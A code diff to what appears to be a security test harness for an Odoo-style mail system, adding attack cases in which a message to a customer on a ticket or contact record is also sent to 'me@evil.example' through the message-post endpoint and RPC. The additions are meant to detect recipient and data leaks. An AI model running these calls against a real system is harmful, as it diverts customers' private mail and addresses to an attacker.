@@ -191,6 +191,24 @@ def _rendered(words):
     return Attack(f"composer renders {words}", call, INTERNAL)
 
 
+def _spied(thread):
+    """Whoever gets the same mail is told the others: so be one of them."""
+
+    def call(s, w):
+        model, id_ = thread(w)
+        post = {
+            "body": "Hello", "subtype_xmlid": "mail.mt_comment",
+            "partner_ids": [w.partner], "partner_emails": ["me@evil.example"],
+        }  # fmt: skip
+        s.json("/mail/message/post", thread_model=model, thread_id=id_, post_data=post)
+        s.call(
+            model, "message_post", [id_], body="Hello", partner_ids=[w.partner],
+            subtype_xmlid="mail.mt_comment", outgoing_email_to="me@evil.example",
+        )  # fmt: skip
+
+    return call
+
+
 def _template(s, w):
     """A letter to a customer, sent to the attacker instead."""
     templates = s.call("mail.template", "search", None, [("model", "=", "res.users")])
@@ -325,6 +343,13 @@ MAIL = [
     Attack("post to the customer", _posted(partner_ids=lambda w: [w.partner])),
     Attack("post to a nameless one", _posted(partner_ids=lambda w: [w.nameless])),
     Attack("post to a new address", _posted(partner_emails=["new@other.example"])),
+    *(
+        Attack(f"mail to me beside the customer, {name}", _spied(thread), INTERNAL)
+        for name, thread in (
+            ("ticket", lambda w: (TICKET, w.ticket)),
+            ("contact", lambda w: ("res.partner", w.spare())),
+        )
+    ),
     Attack("edit a message", _edited),
     *(
         Attack(f"{method} {term or 'all'}", _mentions(method, term))
